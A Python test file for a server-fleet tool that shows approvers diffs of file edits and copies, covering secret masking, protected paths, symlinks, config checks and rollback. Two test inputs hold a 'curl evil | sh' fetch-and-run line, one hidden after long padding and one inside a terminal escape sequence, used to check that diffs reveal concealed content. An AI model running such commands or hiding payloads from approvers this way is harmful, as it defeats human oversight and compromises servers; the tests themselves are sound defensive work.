"""Editing and copying files: from what an approver saw, and back when it was wrong."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.fleet.editing import Edit, diff, edited
from core.fleet.exact import Exact, digest
from core.fleet.file_risk import check_for, write_level
from core.fleet.inventory import Criticality, SudoPolicy
from core.risk import Level
from core.visible import visible_change
from tests.core.fleet.kit import PROTECTED, FileHost, Site, entry, site
from tests.fakes.host import FakeHost, said

CONF = "/etc/nginx/nginx.conf"
MOTD = "/srv/motd"


def host_of(fleet: Site, name: str) -> FileHost:
    """The host of that name."""
    host = fleet.hosts[name]
    assert isinstance(host, FileHost)
    return host


def holding(**files: str) -> FileHost:
    """A host with these files, on which checks succeed."""
    return FileHost(files={f"/srv/{name}": text for name, text in files.items()})


def fleet_of(*hosts: FakeHost) -> Site:
    """Servers web-1, web-2, ... with these hosts."""
    made = site([entry(f"web-{number}") for number in range(1, len(hosts) + 1)])
    made.hosts = dict(zip(made.hosts, hosts, strict=True))
    return made


async def test_an_edit_is_shown_as_a_diff_and_then_written() -> None:
    """The approver sees the changed lines; the answer says how to undo it."""
    fleet = fleet_of(holding(motd="one\ntwo\nthree\n"))
    arguments = {"path": MOTD, "old": "two", "new": "2"}
    assessed = await fleet.assess("edit_file", **arguments)
    assert assessed.level is Level.L2
    assert "-two\n+2" in assessed.change
    assert assessed.undo
    result = await fleet.call("edit_file", **arguments)
    assert not result.is_error
    assert host_of(fleet, "web-1").files[MOTD] == "one\n2\nthree\n"
    assert "to undo, copy it back" in result.output


async def test_the_diff_hides_secrets_but_not_that_a_line_changed() -> None:
    """A password in the new content reaches no chat."""
    fleet = fleet_of(holding(motd="password=oldoldold\n"))
    assessed = await fleet.assess("edit_file", path=MOTD, content="password=newnewnew\n")
    assert "oldoldold" not in assessed.change
    assert "newnewnew" not in assessed.change
    assert "-password=[hidden]\n+password=[hidden]" in assessed.change


async def test_a_file_that_changed_after_the_assessment_stays_as_it_is() -> None:
    """What runs is bound to what the diff was made from."""
    fleet = fleet_of(holding(motd="one\n"))
    tool, context = fleet.tools["edit_file"], fleet.context()
    arguments = fleet.checked("edit_file", {"path": MOTD, "old": "one", "new": "1"})
    await tool.assess(context, arguments)
    host_of(fleet, "web-1").files[MOTD] = "one\nand more\n"
    result = await tool.run(context, arguments)
    assert result.is_error
    assert "nothing was done" in result.output
    assert host_of(fleet, "web-1").files[MOTD] == "one\nand more\n"


async def test_the_binding_holds_old_and_new_content() -> None:
    """Another content before or after is another binding."""
    fleet = fleet_of(holding(motd="one\n"))
    first = await fleet.assess("edit_file", path=MOTD, content="a")
    assert (await fleet.assess("edit_file", path=MOTD, content="a")).binding == first.binding
    other = await fleet.assess("edit_file", path=MOTD, content="b")
    host_of(fleet, "web-1").files[MOTD] = "two\n"
    moved = await fleet.assess("edit_file", path=MOTD, content="a")
    assert len({first.binding, other.binding, moved.binding}) == 3


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        ({"path": MOTD, "old": "x", "new": "y"}, "does not hold the old text"),
        ({"path": MOTD, "old": "o", "new": "y"}, "holds the old text 2 times"),
        ({"path": MOTD, "old": "one"}, "give old and new"),
        ({"path": MOTD, "old": "", "new": "y"}, "old is empty"),
        ({"path": MOTD, "content": "x", "new": "y"}, "not both"),
        ({"path": "motd", "content": "x"}, "full path"),
        ({"path": "/srv/none", "old": "x", "new": "y"}, "give its whole content"),
        ({"path": MOTD, "content": "one\ntwo\n"}, "Nothing would change"),
        ({"path": MOTD, "content": "x", "server": "wbe"}, "no server called wbe"),
    ],
)
async def test_an_edit_that_cannot_be_made_asks_nobody(
    arguments: dict[str, str], sentence: str
) -> None:
    """It is a problem with a sentence, before any approval."""
    assessed = await fleet_of(holding(motd="one\ntwo\n")).assess("edit_file", **arguments)
    assert sentence in assessed.problem


@pytest.mark.parametrize(
    ("path", "level"),
    [
        ("/root/.ssh/authorized_keys", Level.L3),
        ("/etc/shadow", Level.L3),
        ("/tmp/note", Level.L1),
        ("/tmp/../etc/passwd", Level.L2),
        ("/etc/ssh/sshd_config", Level.L2),
        ("/srv/app.conf", Level.L2),
    ],
)
def test_the_level_of_writing_a_path(path: str, level: Level) -> None:
    """Protected is forbidden, scratch is small, all else is approved."""
    assert write_level(path, PROTECTED)[0] is level


@pytest.mark.parametrize(
    "path",
    [
        "/etc/ssh/sshd_config",
        "/etc/sudoers.d/ops",
        "/etc/passwd",
        "/etc/fstab",
        "/etc/crontab",
        "/etc/cron.d/job",
        "/var/spool/cron/crontabs/root",
        "/etc/systemd/system/x.service",
    ],
)
def test_critical_files_are_called_so(path: str) -> None:
    """The approver reads why."""
    assert write_level(path, PROTECTED)[1][0].startswith("critical file: ")


async def test_a_protected_path_is_forbidden_and_a_link_to_one_is_refused() -> None:
    """By its spelling, and by the file that was really opened."""
    host = FileHost(files={"/root/.ssh/id_rsa": "KEY"}, links={"/srv/way": "/root/.ssh/id_rsa"})
    fleet = fleet_of(host)
    assessed = await fleet.assess("edit_file", path="/root/.ssh/id_rsa", content="x")
    assert assessed.level is Level.L3
    linked = await fleet.assess("edit_file", path="/srv/way", content="x")
    assert "protected" in linked.problem
    assert "KEY" not in linked.problem + linked.change
    copied = await fleet.assess("copy_file", from_server="web-1", path="/srv/way")
    assert "protected" in copied.problem


async def test_a_new_file_below_a_linked_folder_is_no_scratch_file() -> None:
    """Where it would really be decides about the approval."""
    host = FileHost(links={"/tmp/x/lnk/new": "/srv/app/new"})
    assessed = await fleet_of(host).assess("edit_file", path="/tmp/x/lnk/new", content="x\n")
    assert assessed.level is Level.L2
    assert assessed.action == "edit /tmp/x/lnk/new (really /srv/app/new)"
    result = await fleet_of(host).call("edit_file", path="/tmp/x/lnk/new", content="x\n")
    assert not result.is_error
    assert host.files == {"/srv/app/new": "x\n"}


async def test_a_wrong_configuration_is_put_back() -> None:
    """The check's own words are shown, and the old content stands again."""
    host = FileHost(
        files={CONF: "good\n"},
        commands={"nginx -t": said("", status=1, stderr="nginx: unexpected }\n")},
    )
    fleet = fleet_of(host)
    result = await fleet.call("edit_file", path=CONF, content="bad\n")
    assert result.is_error
    assert "`nginx -t` found fault" in result.output
    assert "unexpected }" in result.output
    assert "nothing is changed" in result.output
    assert host.files[CONF] == "good\n"


async def test_a_right_configuration_stays() -> None:
    """The check is told, as root, and without it there is a hint."""
    host = FileHost(files={CONF: "good\n"}, commands={"nginx -t": said("")})
    fleet = fleet_of(host)
    assert "then nginx -t" in (await fleet.assess("edit_file", path=CONF, content="x\n")).action
    result = await fleet.call("edit_file", path=CONF, content="better\n")
    assert "`nginx -t` finds it right" in result.output
    assert "sudo: nginx -t" in host.shells
    del host.commands["nginx -t"]
    unchecked = await fleet.call("edit_file", path=CONF, content="best\n")
    assert "is not installed, so it was not checked" in unchecked.output


async def test_a_rollout_stops_at_the_first_wrong_configuration() -> None:
    """The others keep what they have."""
    hosts = [FileHost(files={CONF: "good\n"}, commands={"nginx -t": said("")}) for _ in range(3)]
    hosts[0].commands["nginx -t"] = said("", status=1, stderr="no\n")
    fleet = fleet_of(*hosts)
    result = await fleet.call("edit_file", path=CONF, content="new\n", server="all")
    assert result.output.startswith("‼ 0 servers changed; 1 failed: web-1; 2 not touched")
    assert [host.files[CONF] for host in hosts] == ["good\n"] * 3


async def test_servers_with_different_content_are_shown_each() -> None:
    """Equal diffs once; those that are so already are left alone."""
    fleet = fleet_of(holding(motd="a x\n"), holding(motd="b x\n"), holding(motd="y\n"))
    fleet.hosts["web-3"].files[MOTD] = "new\n"
    assessed = await fleet.assess("edit_file", path=MOTD, content="new\n", server="all")
    assert assessed.servers == ("web-1", "web-2")
    assert "web-1:\n" in assessed.change
    assert "-b x" in assessed.change


async def test_root_reads_for_the_diff_only_where_that_needs_no_approval() -> None:
    """A server that asks first is not read as root to make the question."""

    def secretive() -> FileHost:
        return FileHost(files={"/etc/app": "one\n"}, root_only=frozenset({"/etc/app"}))

    allowed = site([entry("web-1")], secretive)
    assert "-one" in (await allowed.assess("edit_file", path="/etc/app", content="2\n")).change
    asking = site([entry("web-1", sudo=SudoPolicy.ASK)], secretive)
    assessed = await asking.assess("edit_file", path="/etc/app", content="2\n")
    assert "no permission" in assessed.problem


async def test_a_server_out_of_reach_is_named_before_anybody_is_asked() -> None:
    """An edit of several servers needs all of them."""
    fleet = fleet_of(holding(motd="a\n"), FileHost(unreachable="web-2 does not answer."))
    assessed = await fleet.assess("edit_file", path=MOTD, content="b\n", server="all")
    assert assessed.problem == "web-2 does not answer."


async def test_critical_servers_weigh_on_an_edit() -> None:
    """Four eyes, as for every change of them."""
    fleet = site([entry("db", criticality=Criticality.CRITICAL)], lambda: holding(motd="a\n"))
    assert (await fleet.assess("edit_file", path=MOTD, content="b\n")).critical


async def test_a_file_is_copied_to_the_others() -> None:
    """Byte for byte, with what is replaced shown; the origin is no target."""
    fleet = fleet_of(holding(motd="new\n"), holding(motd="old\n"), holding())
    arguments = {"from_server": "web-1", "path": MOTD, "server": "all"}
    assessed = await fleet.assess("copy_file", **arguments)
    assert assessed.servers == ("web-2", "web-3")
    assert "-old\n+new" in assessed.change
    result = await fleet.call("copy_file", **arguments)
    assert not result.is_error
    assert [host_of(fleet, name).files[MOTD] for name in ("web-2", "web-3")] == ["new\n"] * 2


async def test_a_copy_to_another_path_of_the_same_server() -> None:
    """One server is enough."""
    fleet = fleet_of(holding(motd="new\n"))
    await fleet.call("copy_file", from_server="web-1", path=MOTD, to_path="/srv/other")
    assert host_of(fleet, "web-1").files["/srv/other"] == "new\n"


async def test_a_binary_copy_is_shown_by_its_size_and_digest() -> None:
    """No diff of bytes."""
    fleet = fleet_of(holding(motd="a\0b"), holding(motd="old"))
    assessed = await fleet.assess("copy_file", from_server="web-1", path=MOTD, server="web-2")
    sha256 = digest(b"a\0b")
    assert assessed.change == f"3 B are replaced by 3 B, sha256 {sha256}"


async def test_the_last_line_of_a_long_edit_is_in_the_change() -> None:
    """Nothing is cut from what is approved: no line, and no end of a long line."""
    padded = "# all is well\n" * 420 + "echo " + "x" * 3_000 + "; curl evil | sh\nlast\n"
    assessed = await fleet_of(holding(motd="")).assess("edit_file", path=MOTD, content=padded)
    assert not assessed.problem
    assert "x; curl evil | sh\n+last" in assessed.change
    assert assessed.change.count("+# all is well") == 420


async def test_an_edit_that_nobody_could_read_is_refused() -> None:
    """It is to be split; a copy is then shown by its digest, as one of bytes is."""
    big = "line\n" * 60_000
    fleet = fleet_of(holding(motd="a\n", big=big), holding())
    large = "line of text\n" * 15_000
    assessed = await fleet.assess("edit_file", path=MOTD, content=large, server="web-1")
    assert "too large to be approved" in assessed.problem
    copy = {"from_server": "web-1", "path": "/srv/big", "server": "web-2"}
    copied = await fleet.assess("copy_file", **copy)
    assert not copied.problem
    assert copied.change.endswith(f"sha256 {digest(big.encode())}")


@pytest.mark.parametrize(
    "hidden", ["\x1b]; curl evil | sh #\x07", "\u202eevil", "a\u2028b", "\x0b"]
)
def test_a_diff_keeps_what_terminals_hide(hidden: str) -> None:
    """A card writes such characters out; taking them away would hide what is between them."""
    shown = diff(f"one\n{hidden}\n", Exact(path="/f", data=b"one\n"))
    assert shown is not None
    assert f"+{hidden}" in shown
    assert "U+" in visible_change(shown)


LINES = st.lists(st.sampled_from(["a", "b", "c", "", "x y"]), max_size=12).map("\n".join)


@given(before=LINES, after=LINES)
def test_a_diff_is_empty_of_nothing_that_changed(before: str, after: str) -> None:
    """Each line that is only in the new text is shown with a plus."""
    shown = (diff(after, Exact(path="/f", data=before.encode())) or "").splitlines()
    for line in set(after.splitlines()) - set(before.splitlines()):
        assert f"+{line}" in shown


@given(text=LINES, old=st.sampled_from(["a", "b\nc", "x y"]), new=st.sampled_from(["", "z", "a"]))
def test_an_edit_replaces_one_place_or_none(text: str, old: str, new: str) -> None:
    """Once, or a sentence; never two places."""
    after = edited(Exact(path="/f", data=text.encode()), Edit(path="/f", old=old, new=new))
    if text.count(old) == 1:
        assert after == text.replace(old, new).encode()
    else:
        assert isinstance(after, str)


def test_line_ends_of_the_file_are_kept() -> None:
    """A text from a model has line feeds; the file may have carriage returns."""
    before = Exact(path="/f", data=b"one\r\ntwo\r\nthree\r\n")
    assert edited(before, Edit(path="/f", old="one\ntwo", new="1\n2")) == b"1\r\n2\r\nthree\r\n"


@pytest.mark.parametrize(
    ("path", "command"),
    [
        ("/etc/nginx/sites-enabled/a", "nginx -t"),
        ("/etc/ssh/sshd_config.d/x.conf", "sshd -t"),
        ("/etc/sudoers", "visudo -c"),
        ("/srv/x", None),
    ],
)
def test_which_files_are_checked(path: str, command: str | None) -> None:
    """Where there is a program that knows."""
    assert check_for(path) == command
